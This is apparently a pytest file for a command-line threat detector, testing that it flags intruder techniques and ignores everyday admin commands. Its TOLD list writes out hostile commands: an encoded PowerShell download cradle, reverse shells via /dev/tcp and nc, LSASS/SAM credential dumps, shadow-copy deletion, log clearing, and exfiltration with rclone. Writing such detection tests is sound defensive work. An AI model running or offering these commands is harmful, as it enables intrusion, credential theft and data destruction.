"""Command lines, plain and disguised."""

from base64 import b64encode
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from triage_warden.core.facts.command_lines import decoded, tells_in

_CRADLE = b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')".encode("utf-16-le")
).decode()

TOLD = [
    ("vssadmin.exe delete shadows /all /quiet", "recovery_destroyed"),
    ("wmic shadowcopy delete", "recovery_destroyed"),
    ("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "credential_dump"),
    ("reg save HKLM\\SAM C:\\temp\\sam.hiv", "credential_dump"),
    ("procdump64.exe -ma lsass.exe out.dmp", "credential_dump"),
    ("powershell -nop -w hidden -c IEX(...)", "hidden_powershell"),
    (f"powershell.exe -enc {_CRADLE}", "encoded_powershell"),
    (f"powershell.exe -enc {_CRADLE}", "download_and_run"),
    ("certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe", "download_by_system_tool"),
    ("c^er^tu^til -url^cache -f http://203.0.113.9/x.exe", "download_by_system_tool"),
    ("curl -s http://203.0.113.9/i.sh | sudo bash", "download_and_run"),
    ("mshta http://203.0.113.9/a.hta", "code_through_trusted_program"),
    ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", "code_through_trusted_program"),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse_shell"),
    ("nc -e /bin/sh 203.0.113.9 4444", "reverse_shell"),
    ("./xmrig -o stratum+tcp://pool.example:3333", "miner"),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "defences_disabled"),
    ("wevtutil cl Security", "traces_removed"),
    ("schtasks /create /sc once /tn x /tr c:\\x.exe", "persistence_by_command"),
    ('net group "Domain Admins" /domain', "looking_around"),
    ("PsExec.exe \\\\srv1 -s cmd", "remote_execution"),
    ("rclone copy C:\\data remote:bucket", "data_carried_out"),
    ("GET /shell.php?cmd=whoami HTTP/1.1", "web_server_shell"),
    ("winword.exe /c powershell.exe -c x", "office_program_as_parent"),
    ("ngrok tcp 3389", "tunnel"),
    ("cat /etc/shadow", "credential_dump"),
]

SILENT = [
    "powershell.exe -File C:\\Scripts\\inventory.ps1",
    "C:\\Program Files\\Vendor\\update.exe --check",
    "git commit -m 'fix'",
    "apt-get update",
    "notepad.exe C:\\Users\\a\\notes.txt",
    "ssh admin@server.example.com",
    "tar czf /backup/etc.tgz /etc",
    "curl https://api.example.com/v1/status",
    "sc query wuauserv",
    "python -m http.server",
    "docker run --rm alpine echo hi",
    "systemctl restart nginx",
]


@pytest.mark.parametrize(("line", "tell"), TOLD)
def test_ways_of_intruders_are_recognised(line: str, tell: str) -> None:
    """Each tell is found in a line that shows it, plain, escaped or encoded."""
    assert tell in {each.name for each in tells_in(line)}


@pytest.mark.parametrize("line", SILENT)
def test_everyday_commands_tell_nothing(line: str) -> None:
    """What administrators and developers type all day is no evidence."""
    assert not tells_in(line)


def test_an_encoded_command_is_read() -> None:
    """What PowerShell would run is what is judged."""
    assert decoded(f"powershell -EncodedCommand {_CRADLE}").startswith("IEX (New-Object")


@given(st.text())
def test_any_line_can_be_read(line: str) -> None:
    """No line, whatever is in it, is an error."""
    tells_in(line)
    decoded(line)


def test_reading_takes_time_linear_in_the_line() -> None:
    """A line made to be slow is not."""
    line = "powershell -e " * 20_000
    start = process_time()
    tells_in(line)
    assert process_time() - start < 1.0
